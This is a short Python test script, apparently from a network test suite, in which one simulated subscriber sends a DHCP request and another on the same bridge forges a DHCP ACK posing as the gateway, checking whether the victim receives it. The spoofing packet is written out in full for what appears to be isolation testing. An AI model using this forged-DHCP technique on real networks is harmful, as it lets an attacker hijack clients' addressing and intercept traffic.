#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""sub1 asks; sub4, in the same bridge, answers as if it were the BNG.

usage: bridge_forge.py SECONDS	to wait for sub1 to see it
"""
import sys

import packet as p
from world import Wire, wait_until

XID, ADDR, GATEWAY = 0x77, "10.77.1.99", "10.77.1.1"
victim = Wire("sub1", "wan")
forger = Wire("sub4", "wan")

victim.send(p.ether(p.BROADCAST, victim.mac, p.ip(
    "0.0.0.0", "255.255.255.255", p.udp(
        "0.0.0.0", 68, "255.255.255.255", 67, p.dhcp(
            p.BOOTREQUEST, p.options(p.REQUEST, (50, ADDR)), xid=XID,
            chaddr=victim.mac)))))
# the forger sees it: it has passed the bridge
assert wait_until(lambda: [one for one in forger.dhcp()
                           if one["xid"] == XID])
forger.send(p.ether(p.BROADCAST, forger.mac, p.ip(
    GATEWAY, "255.255.255.255", p.udp(
        GATEWAY, 67, "255.255.255.255", 68, p.dhcp(
            p.BOOTREPLY, p.options(p.ACK, (54, GATEWAY), (51, 600)),
            xid=XID, chaddr=victim.mac, yiaddr=ADDR)))))
if not wait_until(lambda: [one for one in victim.dhcp()
                           if one["xid"] == XID and one["op"] == 2], float(sys.argv[1])):
    raise SystemExit("the victim did not see it")
